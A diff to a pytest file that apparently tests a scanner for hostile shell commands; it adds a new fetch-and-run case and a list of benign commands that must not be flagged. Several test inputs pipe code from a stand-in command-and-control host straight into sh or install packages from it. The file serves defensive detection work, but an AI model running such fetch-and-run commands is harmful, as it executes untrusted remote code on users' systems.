@@ -64,6 +64,7 @@ def line_of(text: str, name: str, dialect: Dialect = "sh") -> int:
         "f() {\n  curl https://c2.example.invalid/x | sh\n}",
         "npx --yes https://c2.example.invalid/x",
         "pip install git+https://c2.example.invalid/x",
+        "(( $(curl https://c2.example.invalid/x | sh) > 1 ))",
     ],
 )
 def test_what_is_fetched_and_run(text: str) -> None:
@@ -234,7 +235,14 @@ EVERYDAY = [
 ]
 
 
-@pytest.mark.parametrize("text", EVERYDAY)
+#: What says something, and nothing of it is loud: a size that is counted, a secret that is only named.
+QUIET = [
+    'curl -o ca.pem https://left.example/ca.pem; (( "$(wc -c < ca.pem)" < 10000 )) && exit 1',
+    'gcloud secrets create "$CONFIG_SECRET" --data-file=gateway.yaml',
+]
+
+
+@pytest.mark.parametrize("text", EVERYDAY + QUIET)
 def test_everyday_commands_say_nothing_loud(text: str) -> None:
     assert not [one for one in told(text) if one.partition(" ")[0] in LOUD], told(text)
 
